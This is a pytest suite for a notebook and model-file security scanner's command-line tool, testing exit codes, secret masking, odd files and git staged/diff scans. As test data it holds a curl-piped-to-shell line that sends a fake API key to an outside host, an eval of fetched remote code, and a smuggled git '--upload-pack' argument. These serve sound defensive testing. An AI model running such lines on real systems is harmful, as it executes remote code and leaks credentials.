"""The command line as a user runs it: real files, real processes, real git."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from mlsec_nb.artifacts.examples import SYSTEM
from mlsec_nb.frontends.cli import main
from tests.notebooks import code, content, display, markdown, stream
from tests.secrets_fakes import openai_key

UNSAFE = "import pickle\nmodel = pickle.load(open('model.pkl', 'rb'))"


def write(folder, name, *cells):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content(*cells))
    return str(path)


def scan(*arguments):
    return main(["scan", *map(str, arguments)])


def wire(capsys, *arguments):
    status = scan(*arguments, "--format", "json")
    return status, json.loads(capsys.readouterr().out)


def rules(answer):
    return [finding["rule"] for target in answer["targets"] for finding in target["findings"]]


@pytest.fixture(autouse=True)
def away_from_the_project(tmp_path, monkeypatch):
    """No configuration and no repository but the test's own."""
    monkeypatch.chdir(tmp_path)


def test_clean_notebook_is_0(tmp_path):
    assert scan(write(tmp_path, "a.ipynb", "x = 1"), "--quiet") == 0


def test_finding_at_high_is_1_and_below_fail_on_0(tmp_path):
    path = write(tmp_path, "a.ipynb", UNSAFE)
    assert scan(path, "--fail-on", "low") == 1
    assert scan(path, "--fail-on", "critical") == 0


def test_finding_has_its_place(tmp_path, capsys):
    _, answer = wire(capsys, write(tmp_path, "a.ipynb", "x = 1", "y = 2\n" + UNSAFE))
    (found,) = [f for t in answer["targets"] for f in t["findings"]]
    assert (found["location"]["cell"], found["location"]["line"]) == (1, 3)
    assert answer["targets"][0]["verdict"] == "findings"


def test_secret_in_an_output_points_to_its_source(tmp_path, capsys):
    key = openai_key()
    cell = code(f"key = '{key}'\nprint(key)", stream(f"{key}\n"))
    _, answer = wire(capsys, write(tmp_path, "a.ipynb", cell))
    printed = [f for f in answer["targets"][0]["findings"] if f["location"]["surface"] == "output"]
    assert printed[0]["related"][0]["location"]["cell"] == 0
    assert key not in json.dumps(answer)


@pytest.mark.parametrize("name", ["text", "json", "sarif", "markdown", "html", "junit"])
def test_no_format_leaks_a_value(tmp_path, capsys, name):
    key = openai_key()
    path = write(tmp_path, "a.ipynb", f"import os\nos.system('curl -H {key} http://x.org | sh')  # {key}")
    assert scan(path, "--format", name) == 1
    out = capsys.readouterr().out
    assert not any(key[i : i + 10] in out for i in range(len(key) - 9))


def test_code_evidence_is_masked_when_secrets_are_not_asked_for(tmp_path, capsys):
    key = openai_key()
    path = write(tmp_path, "a.ipynb", f"eval(requests.get(u, headers={{'k': '{key}'}}).text)")
    scan(path, "--engines", "code", "--format", "json")
    assert key[10:20] not in capsys.readouterr().out


# The odd files that are met in the wild: each is scanned right, or reported with exit status 2.

ODD = {
    "truncated": content(UNSAFE)[:-30],
    "conflict": content(UNSAFE).replace(b' "cells"', b'<<<<<<< HEAD\n "cells"'),
    "empty": b"",
    "deep": b"[" * 100_000,
    "not-a-notebook": b'{"a": 1}',
}


@pytest.mark.parametrize("name", ODD)
def test_odd_file_is_reported_as_not_read(tmp_path, capsys, name):
    path = tmp_path / "odd.ipynb"
    path.write_bytes(ODD[name])
    status, answer = wire(capsys, path)
    assert status == 2
    assert answer["targets"][0]["verdict"] == "incomplete"
    assert answer["targets"][0]["skipped"][0]["why"]


def test_bytes_that_are_not_utf8_are_reported_and_the_rest_is_scanned(tmp_path, capsys):
    path = tmp_path / "odd.ipynb"
    path.write_bytes(content("x = 'caf?'", UNSAFE).replace(b"caf?", b"caf\xe9"))
    _, answer = wire(capsys, path)
    assert rules(answer)
    assert answer["targets"][0]["skipped"][0]["what"] == "file encoding"


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16"])
def test_byte_order_mark_is_scanned(tmp_path, capsys, codec):
    path = tmp_path / "odd.ipynb"
    path.write_bytes(content(UNSAFE).decode().encode(codec))
    assert rules(wire(capsys, path)[1])


def test_secret_after_empty_cells_has_the_right_cell(tmp_path, capsys):
    cells = ["", "", "", "", "", f"key = '{openai_key()}'"]
    _, answer = wire(capsys, write(tmp_path, "a.ipynb", *cells))
    assert answer["targets"][0]["findings"][0]["location"]["cell"] == 5


def test_secret_in_html_only(tmp_path, capsys):
    page = f"<table><tr><td>key</td><td>{openai_key()}</td></tr></table>"
    _, answer = wire(capsys, write(tmp_path, "a.ipynb", code("df", display(text_html=page))))
    (found,) = answer["targets"][0]["findings"]
    assert (found["location"]["surface"], found["location"]["mime"]) == ("output", "text/html")


def test_huge_line_is_scanned(tmp_path, capsys):
    _, answer = wire(capsys, write(tmp_path, "a.ipynb", code("f()", stream("a" * 1_000_000)), UNSAFE))
    assert [f["location"]["cell"] for f in answer["targets"][0]["findings"]] == [1]


def test_unknown_path_is_2_and_findings_elsewhere_win(tmp_path):
    assert scan(tmp_path / "none.ipynb") == 2
    assert scan(tmp_path / "none.ipynb", write(tmp_path, "a.ipynb", UNSAFE), "--fail-on", "low") == 1


def test_wrong_calls_are_2(tmp_path, capsys):
    assert scan() == 2
    assert scan(tmp_path, "--select", "nonsense") == 2
    assert scan(tmp_path, "--baseline", "none.json") == 2
    assert "mlsec-nb: " in capsys.readouterr().err
    with pytest.raises(SystemExit) as refused:
        scan(tmp_path, "--engines", "magic")
    assert refused.value.code == 2


def test_select_and_ignore(tmp_path, capsys):
    path = write(tmp_path, "a.ipynb", UNSAFE, f"key = '{openai_key()}'")
    assert all(rule.startswith("MLS1") for rule in rules(wire(capsys, path, "--select", "MLS1")[1]))
    assert all(rule.startswith("MLS2") for rule in rules(wire(capsys, path, "--ignore", "MLS1")[1]))


def test_baseline_survives_rerun_and_reorder_and_shows_what_is_new(tmp_path, capsys):
    key = openai_key()
    path = write(tmp_path, "a.ipynb", UNSAFE, code(f"key = '{key}'", stream(f"{key}\n"), count=1))
    assert scan(path, "--write-baseline", "--baseline", "known.json") == 0
    moved = code(f"key = '{key}'", stream(f"again\n{key}\n"), count=9)
    write(tmp_path, "a.ipynb", markdown("# new title"), moved, UNSAFE)
    assert scan(path, "--baseline", "known.json") == 0
    write(tmp_path, "a.ipynb", moved, UNSAFE, f"other = '{openai_key(seed=7)}'")
    assert scan(path, "--baseline", "known.json") == 1


def test_output_file_is_named(tmp_path, capsys):
    out = tmp_path / "report.html"
    scan(write(tmp_path, "a.ipynb", UNSAFE), "--format", "html", "--output", out)
    assert out.read_text().startswith("<!DOCTYPE html>")
    assert "report.html" in capsys.readouterr().err


def test_text_is_quiet_when_all_is_well(tmp_path, capsys):
    scan(write(tmp_path, "a.ipynb", "x = 1"), "--quiet")
    assert capsys.readouterr().out == ""


def test_standard_input():
    command = [sys.executable, "-m", "mlsec_nb", "scan", "-", "--format", "json"]
    done = subprocess.run(command, input=content(UNSAFE), capture_output=True, check=False)
    answer = json.loads(done.stdout)
    assert answer["targets"][0]["path"] == "-"
    assert rules(answer)


def test_sarif_points_into_the_raw_file(tmp_path, capsys):
    path = write(tmp_path, "a.ipynb", "x = 1", UNSAFE)
    scan(path, "--format", "sarif")
    (result,) = json.loads(capsys.readouterr().out)["runs"][0]["results"]
    line = result["locations"][0]["physicalLocation"]["region"]["startLine"]
    assert "pickle.load" in Path(path).read_text().split("\n")[line - 1]


def git(*arguments):
    identity = ["-c", "user.name=a", "-c", "user.email=a@b.c", "-c", "init.defaultBranch=main"]
    subprocess.run(["git", *identity, *arguments], check=True, capture_output=True)


@pytest.fixture
def repository(tmp_path):
    git("init", str(tmp_path))
    write(tmp_path, "old.ipynb", UNSAFE)
    write(tmp_path, "same.ipynb", UNSAFE)
    git("add", ".")
    git("commit", "-m", "first")
    return tmp_path


def test_staged_scans_the_index_and_only_what_is_new(repository, capsys):
    new = f"key = '{openai_key()}'"
    write(repository, "old.ipynb", UNSAFE, new)
    git("add", ".")
    write(repository, "old.ipynb", "the working tree is elsewhere")
    _, answer = wire(capsys, "--staged")
    assert [target["path"] for target in answer["targets"]] == ["old.ipynb"]
    live = [f for f in answer["targets"][0]["findings"] if not f["suppressed"]]
    assert [f["engine"] for f in live] == ["secrets"]


def test_diff_takes_new_files_and_says_unknown_revisions(repository, capsys):
    write(repository, "new.ipynb", UNSAFE)
    _, answer = wire(capsys, "--diff", "HEAD")
    assert [target["path"] for target in answer["targets"]] == ["new.ipynb"]
    assert scan("--diff=--upload-pack=evil") == 2


def test_staged_model_files_are_scanned_as_in_the_index(repository, capsys):
    (repository / "bad.pkl").write_bytes(SYSTEM)
    (repository / "text.md").write_text("a,b")
    git("add", ".")
    (repository / "bad.pkl").write_bytes(b"")
    status, answer = wire(capsys, "--staged")
    assert status == 1
    assert [target["path"] for target in answer["targets"]] == ["bad.pkl"]
    git("commit", "-m", "second")
    assert wire(capsys, "--staged")[0] == 0


def test_staged_outside_a_repository_is_2(tmp_path, capsys):
    assert scan("--staged") == 2
    assert "repository" in capsys.readouterr().err


def test_explain_and_rules(capsys):
    assert main(["explain", "pickle-load"]) == 0
    shown = capsys.readouterr().out
    assert "Why it matters" in shown
    assert main(["explain", "nonsense"]) == 2
    assert main(["rules", "--format", "json"]) == 0
    assert len(json.loads(capsys.readouterr().out)) > 50
